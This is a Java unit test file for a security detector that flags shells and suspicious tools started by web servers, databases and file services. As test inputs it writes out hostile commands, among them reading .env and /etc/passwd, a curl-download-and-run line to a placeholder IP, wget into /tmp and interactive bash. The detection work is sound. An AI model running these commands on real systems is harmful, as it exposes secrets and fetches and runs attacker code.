package io.hivesec.detectors.lineage;

import static io.hivesec.testkit.HiveAssertions.assertThatFindings;
import static org.assertj.core.api.Assertions.assertThat;

import io.hivesec.alert.Finding;
import io.hivesec.alert.Severity;
import io.hivesec.event.Endpoint;
import io.hivesec.event.Event;
import io.hivesec.event.NetworkListening;
import io.hivesec.spi.Detector;
import io.hivesec.testkit.Detecting;
import io.hivesec.testkit.DetectorContract;
import io.hivesec.testkit.Scene;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

final class ServerSpawnsShellDetectorTest implements DetectorContract {
    private final Scene scene = Scene.in("web");

    @Override
    public Detector detector() {
        return new ServerSpawnsShellDetector();
    }

    @Override
    public List<Event> incident() {
        Scene incident = Scene.in("incident");
        incident.starts("/usr/sbin/php-fpm8.2", "php-fpm").starts("/bin/sh", "sh", "-c", "id");
        return incident.events();
    }

    private List<Finding> found() {
        return Detecting.findings(detector(), scene);
    }

    @ParameterizedTest
    @CsvSource({
        "ls -la /; cat /var/www/html/.env,        true",
        "cat wp-content/debug.log,                false",
        "cat /var/www/html/.env.example,          false",
    })
    void inspect_serverShowsItsOwnSecrets_isFound(String command, boolean isFound) {
        scene.starts("/usr/sbin/php-fpm8.2", "php-fpm").starts("/bin/sh", "sh", "-c", command);
        if (isFound) assertThatFindings(found()).show("malicious-command.web-server-shell");
        else assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_shellOfAContainersHook_isFound() {
        scene.starts("/usr/bin/nvidia-ctk", "nvidia-ctk", "hook", "enable-cuda-compat")
                .starts("/bin/sh", "sh", "-c", "id > /owned");
        assertThatFindings(found()).show("malicious-command.service-shell");
    }

    @Test
    void inspect_linkerOfAContainersHook_isQuiet() {
        scene.starts("/usr/bin/nvidia-ctk", "nvidia-ctk", "hook", "update-ldcache")
                .starts("/sbin/ldconfig", "ldconfig");
        assertThatFindings(found()).areNone();
    }

    private Scene.Actor tomcat() {
        return scene.starts("/usr/bin/java", "java", "org.apache.catalina.startup.Bootstrap", "start");
    }

    @Test
    void inspect_shellUnderTomcat_findsIt() {
        tomcat().starts("/bin/sh", "sh", "-c", "cat /etc/passwd");
        assertThatFindings(found()).show("malicious-command.web-server-shell", "telling", "/etc/passwd");
    }

    @Test
    void inspect_interactiveShellUnderNginxWorker_isCritical() {
        scene.starts("/usr/sbin/nginx", "nginx").starts("/bin/bash", "bash", "-i");
        assertThat(found()).first().extracting(Finding::severity).isEqualTo(Severity.CRITICAL);
    }

    @Test
    void inspect_downloadThroughShellOfPhp_findsIt() {
        scene.starts("/usr/sbin/apache2", "apache2").starts("/bin/sh", "sh", "-c", "cd /tmp; wget http://x/y");
        assertThatFindings(found()).show("malicious-command.web-server-shell");
    }

    @Test
    void inspect_whoamiUnderTomcat_findsIt() {
        tomcat().starts("/usr/bin/whoami", "whoami");
        assertThatFindings(found()).show("malicious-command.web-server-recon");
    }

    @Test
    void inspect_shellUnderRedis_findsIt() {
        scene.starts("/usr/bin/redis-server", "redis-server").starts("/bin/sh", "sh", "-c", "id");
        assertThatFindings(found()).show("malicious-command.database-shell");
    }

    @Test
    void inspect_shellUnderPostgres_findsIt() {
        scene.starts("/usr/lib/postgresql/15/bin/postgres", "postgres").starts("/bin/bash", "bash", "-i");
        assertThatFindings(found()).show("malicious-command.database-shell");
    }

    @Test
    void inspect_mailThroughShellOfPhp_isQuiet() {
        scene.starts("/usr/sbin/php-fpm8.2", "php-fpm").starts("/bin/sh", "sh", "-c", "/usr/sbin/sendmail -t -i");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_imageConversion_isQuiet() {
        scene.starts("/usr/sbin/apache2", "apache2").starts("/bin/sh", "sh", "-c", "convert 'a.png' 'b.jpg'");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_pipedLogs_isQuiet() {
        scene.starts("/usr/sbin/apache2", "apache2").starts("/bin/sh", "sh", "-c", "exec rotatelogs /var/log/a 86400");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_archivingOfPostgres_isQuiet() {
        scene.starts("/usr/bin/postgres", "postgres").starts("/bin/sh", "sh", "-c", "test ! -f /a/0 && cp pg/0 /a/0");
        assertThatFindings(found()).areNone();
    }

    @ParameterizedTest
    @CsvSource({
        "/usr/bin/postgres,   /usr/bin/pgbackrest, false",
        "/usr/bin/postgres,   /usr/bin/curl,       true",
        "/usr/bin/postgres,   /bin/bash,           true",
        "/usr/sbin/snmpd,     /usr/bin/awk,        false",
        "/usr/sbin/snmpd,     /usr/bin/base64,     true",
    })
    void inspect_shellOfWhichNothingIsTold_isJudgedByWhatItStarts(String server, String command, boolean isFound) {
        scene.starts(server).starts("/bin/sh").starts(command);
        if (isFound) assertThat(found()).isNotEmpty();
        else assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_silentShellOfADatabaseThatHasNoCommandsOfItsOwn_findsIt() {
        scene.starts("/usr/sbin/mysqld").starts("/bin/sh");
        assertThatFindings(found()).show("malicious-command.database-shell");
    }

    @Test
    void inspect_cgiScript_isQuiet() {
        scene.starts("/usr/sbin/apache2", "apache2").starts("/bin/bash", "bash", "/usr/lib/cgi-bin/x.cgi");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_startScriptAboveTheServer_isQuiet() {
        scene.starts("/bin/bash", "bash", "catalina.sh").starts("/usr/bin/java", "java", "-Dcatalina.home=/t", "x");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_optionsOfACheckAtStart_isQuiet() {
        tomcat().starts("/usr/bin/id", "id", "-u");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_shellUnderOtherJvm_isQuiet() {
        scene.starts("/usr/bin/java", "java", "-jar", "batch.jar").starts("/bin/sh", "sh", "-c", "id");
        assertThatFindings(found()).areNone();
    }

    @ParameterizedTest
    @ValueSource(strings = {"nohup /tmp/z &", "curl 203.0.113.9/e -o /tmp/e && sh /tmp/e", "id"})
    void inspect_shellOfAFileServer_isFound(String command) {
        scene.starts("/usr/sbin/smbd", "smbd").starts("/bin/sh", "sh", "-c", command);
        assertThatFindings(found()).show("malicious-command.service-shell");
    }

    @ParameterizedTest
    @ValueSource(strings = {"/usr/bin/procmail -d ann", "/usr/local/sbin/preexec ann", "/usr/bin/lpq -P'x'"})
    void inspect_commandThatAServiceIsConfiguredToRun_isQuiet(String command) {
        scene.starts("/usr/sbin/exim4", "exim4").starts("/bin/sh", "/bin/sh", "-c", command);
        assertThatFindings(found()).areNone();
    }

    @ParameterizedTest
    @CsvSource({"/usr/sbin/nginx, tcpdump", "/usr/sbin/mysqld, useradd", "/usr/sbin/smbd, strace"})
    void inspect_toolThatNoServerHasAUseFor_isFound(String server, String tool) {
        scene.starts(server, server).starts("/usr/bin/" + tool, tool, "-x");
        assertThatFindings(found()).show("malicious-command.server-tool");
    }

    @Test
    void inspect_sameToolOfAnAdministrator_isQuiet() {
        scene.starts("/bin/bash", "-bash").starts("/usr/bin/tcpdump", "tcpdump");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_shellOfAnInterpretersTextUnderTomcat_isFound() {
        tomcat().starts("/usr/bin/python3", "python3", "-c", "import os;os.popen('id')")
                .starts("/bin/sh", "sh", "-c", "id");
        assertThatFindings(found()).show("malicious-command.web-server-shell", "telling", "id");
    }

    @Test
    void inspect_shellOfAnInterpretersScriptUnderTomcat_isQuiet() {
        tomcat().starts("/usr/bin/python3", "python3", "/srv/report.py").starts("/bin/sh", "sh", "-c", "id -un");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_scriptLeftInADirectoryOfAll_isFound() {
        scene.starts("/usr/sbin/httpd", "httpd").starts("/bin/bash", "bash", "/tmp/r.sh");
        assertThatFindings(found()).show("malicious-command.web-server-shell");
    }

    @Test
    void inspect_jobsStepWrittenThereByItsServer_isQuiet() {
        scene.starts("/usr/bin/java", "java", "-jar", "/usr/share/java/jenkins.war")
                .starts("/bin/sh", "sh", "-xe", "/tmp/jenkins7.sh");
        assertThatFindings(found()).areNone();
    }

    @ParameterizedTest
    @CsvSource({"0.0.0.0, true", "127.0.0.1, false"})
    void inspect_lookAroundByAProgramThatListens_isFoundWhereOthersReachIt(String address, boolean isFound) {
        Scene.Actor node = scene.starts("/usr/bin/node", "node", "server.js")
                .does(context -> new NetworkListening(context, "tcp", Endpoint.of(address, 3000), 18));
        node.starts("/bin/sh", "sh", "-c", "cat /etc/passwd; id");
        if (isFound)
            assertThatFindings(found()).show("malicious-command.web-server-shell", "telling", "/etc/passwd id");
        else assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_oneQuestionByAProgramThatListens_isQuiet() {
        scene.starts("/usr/bin/node", "node", "vite").listens(20, 5173).starts("/bin/sh", "sh", "-c", "id -u");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_serverByTheTitleThatItGaveItself_isFound() {
        scene.starts("/usr/local/bin/ruby", "puma 6.4.0 (tcp://0.0.0.0:3000) [app]")
                .starts("/bin/sh", "sh", "-c", "id;ls");
        assertThatFindings(found()).show("malicious-command.web-server-shell");
    }
}
